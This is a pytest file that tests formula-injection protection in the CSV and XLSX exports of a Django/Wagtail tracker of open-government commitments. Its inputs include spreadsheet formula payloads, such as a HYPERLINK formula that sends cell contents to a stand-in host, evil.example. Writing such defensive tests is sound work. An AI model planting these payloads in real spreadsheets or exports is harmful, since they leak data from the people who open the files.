"""Formula injection: no cell of either export runs as a formula in a spreadsheet, published
values included, and the CSV still imports back to the same records."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from commitments import services
from commitments.models import CommitmentPage
from commitments.ogp import columns as ogp
from commitments.ogp.importer import import_ogp_commitments
from tests.commitments.test_export import snapshot
from tracker.formulas import formula_guard, formula_guard_undo, formula_like

VARIANTS = [
    "=1+1",
    "@SUM(1)",
    "+1",
    "-1+2",
    "\t=1+1",
    " =1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
]
# The IRM's columns the importer reads (the others are only kept as published).
PARSED_IRM = {
    "OGP Value Access To Information",
    "OGP Value Civic Participation",
    "OGP Value Public Accountability",
    "OGP Value Technology",
    "_Relevant",
    "Specificity",
    "Verifiable",
    "Potential Impact",
    "Potential for Results",
    "Early Results",
    "Did It Open Government (Overall)",
    "Report Publication Year (Progress Report)",
    "Completion (Progress Report)",
    "Starred (Current Formula) Progress Report",
    "Report Publication Year (End Of Term)",
    "Completion (End Of Term)",
    "Carried Forward",
    "Starred (Current Formula) End of Term",
}
TEXT_FIELDS = {
    "Commitment Title": "=1+1 and a title",
    "Short Title": "@SUM(1)",
    "Theme": "+1",
    "Full Text": "-1+2 is the text",
    "Lead Institution": "=Ministry of Finance",
    "Supporting Institution(s)": "@Agency",
    "Start Date": "=DATE(2020,1,1)",
    "End Date": "+2021",
}
NEW_COLUMN = "@New OGP column"


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would run, written independently of the code under test."""
    if re.fullmatch(r"-\d+(\.\d+)?", cell):
        return False  # a number
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


# -- the guard ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*VARIANTS, "'=1+1", "\r=1", "''@x", "-1e5", "- 1", "+1.5", "@"])
def test_formula_like_text_is_guarded_and_the_guard_undone(text):
    guarded = formula_guard(text)
    assert guarded == "'" + text
    assert not runs_as_formula(guarded)
    assert formula_guard_undo(guarded) == text


@pytest.mark.parametrize(
    "text", ["-1", "-1.5", "-0", "", "plain", "1+1", "'plain", "O'Brien", "x=1", "'", "'-1"]
)
def test_other_text_is_left_alone(text):
    """A guarded cell read by a spreadsheet, or by the importer, is the text after the apostrophe:
    so an apostrophe before a formula in a file of OGP's is read that way too (``'=1`` is ``=1``)."""
    assert formula_guard(text) == text
    assert formula_guard_undo(text) == text
    assert not formula_like(text) or text.startswith("'")


# -- both exports -------------------------------------------------------------------------------


@pytest.fixture
def formulas_everywhere(db, sample_copy):
    """The sample with a formula-like value in every column of UA0087 that holds text, and a
    new OGP column (a formula-like header) holding formulas; then, in the record, the member's
    name and region, the plan's and commitment's identifiers, and an organisation's name."""
    with sample_copy.open(encoding="utf-8-sig", newline="") as handle:
        reader = csv.DictReader(handle)
        header = [*(reader.fieldnames or []), NEW_COLUMN]
        rows = list(reader)
    expected: dict[str, str] = {}
    row = next(r for r in rows if r["Commitment Unique Identifier"] == "UA0087")
    published = [
        c
        for c in header
        if (c in ogp.IRM_COLUMNS and c not in PARSED_IRM)
        or (c in ogp.AFTER_POLICY_AREAS and c not in ogp.IRM_COLUMNS and c not in ogp.FIELD_COLUMNS)
        or c in ("Commitment Dummy", "Action Plan Duration (Years)")
    ]
    for n, column in enumerate(published):
        expected[column] = VARIANTS[n % len(VARIANTS)]
    expected.update(TEXT_FIELDS)
    expected[NEW_COLUMN] = "=new"
    row.update(expected)
    # The member's name and region, its plan's identifier, the commitment's identifier.
    plan_id = row["Action Plan ID"]
    for other in rows:
        other.setdefault(NEW_COLUMN, "-1")  # a plain number: kept as it is
        if other["Code"] == "UKR":
            other.update({"Country/Locality": "=Ukraine", "Region": "+Europe"})
        if other["Action Plan ID"] == plan_id:
            other["Action Plan ID"] = "@" + plan_id
    row["Commitment Unique Identifier"] = "-UA0087+1"
    with sample_copy.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)
    import_ogp_commitments(sample_copy)

    page = CommitmentPage.objects.get(ogp_id="-UA0087+1")
    organisation, _ = services.organisation_get_or_create(name="-2+3 Consulting", sector="business")
    services.stakeholder_role_add(commitment=page, organisation=organisation, role="monitor")
    expected.update(
        {
            "Country/Locality": "=Ukraine",
            "Region": "+Europe",
            "Action Plan ID": "@" + plan_id,
            "Commitment Unique Identifier": "-UA0087+1",
            "Tracker: Business stakeholders": "-2+3 Consulting",
        }
    )
    # Stripped on import, as the importer does with these columns.
    for column in ("Start Date", "End Date", "Lead Institution", "Supporting Institution(s)"):
        expected[column] = expected[column].strip()
    return expected


def test_no_csv_cell_runs_as_a_formula_and_the_csv_imports_back_unchanged(
    client, formulas_everywhere, tmp_path
):
    expected = formulas_everywhere
    response = client.get("/en/commitments/export.csv")
    data = b"".join(response.streaming_content)
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, rows = table[0], [dict(zip(table[0], r, strict=True)) for r in table[1:]]
    for cells in table:
        for cell in cells:
            assert not runs_as_formula(cell), cell
    assert "'" + NEW_COLUMN in header
    row = next(r for r in rows if r["Commitment Unique Identifier"] == "'-UA0087+1")
    for column, value in expected.items():
        exported = row["'" + column if column == NEW_COLUMN else column]
        assert exported == "'" + value, (column, exported)
    # OGP's plain numbers stay numbers.
    assert {r["'" + NEW_COLUMN] for r in rows} - {"'=new"} == {"-1"}
    assert "-1" in {r["IRM-Based Score"] for r in rows}
    tested = {c for c in header if any(r[c].startswith("'") for r in rows)}
    assert len(tested) >= len(expected)

    before = snapshot()
    path = tmp_path / "exported.csv"
    path.write_bytes(data)
    report = import_ogp_commitments(path)
    assert report.outcomes["created"] == 0
    assert report.outcomes["updated"] == 0
    assert snapshot() == before
    page = CommitmentPage.objects.get(ogp_id="-UA0087+1")
    assert page.title == expected["Commitment Title"]
    assert page.ogp_extra[NEW_COLUMN] == "=new"
    sources = {k: v for a in page.irm_assessments.all() for k, v in a.source_values.items()}
    assert sources["_Specificity"] == expected["_Specificity"]


def test_no_xlsx_cell_is_a_formula_and_formula_like_text_is_kept_as_text(client, formulas_everywhere):
    expected = formulas_everywhere
    response = client.get("/en/commitments/export.xlsx")
    workbook = load_workbook(io.BytesIO(response.getvalue()))
    sheet = workbook["Commitments"]
    header = [c.value for c in sheet[1]]
    assert NEW_COLUMN in header
    found = None
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str) and runs_as_formula(cell.value):
                assert cell.data_type == "s"
                assert cell.quotePrefix, cell.value
        if cells[0].value == "-UA0087+1":
            found = {header[n]: cell.value for n, cell in enumerate(cells)}
    assert found is not None
    for column, value in expected.items():
        assert found[column] == value, column  # the value itself, as a string, no apostrophe
    for cells in workbook["About"].iter_rows():
        for cell in cells:
            assert cell.data_type != "f"


# -- Wagtail's own admin exports ----------------------------------------------------------------


@pytest.mark.django_db
def test_wagtails_admin_report_csv_guards_a_formula_like_page_title(client, imported):
    from django.contrib.auth import get_user_model

    from tests.conftest import enable_totp

    user = get_user_model().objects.create_superuser("boss", "boss@example.org", "pw-long-enough-1")
    enable_totp(user)
    client.force_login(user)
    page = CommitmentPage.objects.get(ogp_id="UA0087")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    page.title = formula
    page.save_revision(user=user).publish(user=user)

    response = client.get("/admin/reports/site-history/", {"export": "csv"})
    assert response.status_code == 200
    data = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]
    assert "'" + formula in cells
    assert not [cell for cell in cells if runs_as_formula(cell)]
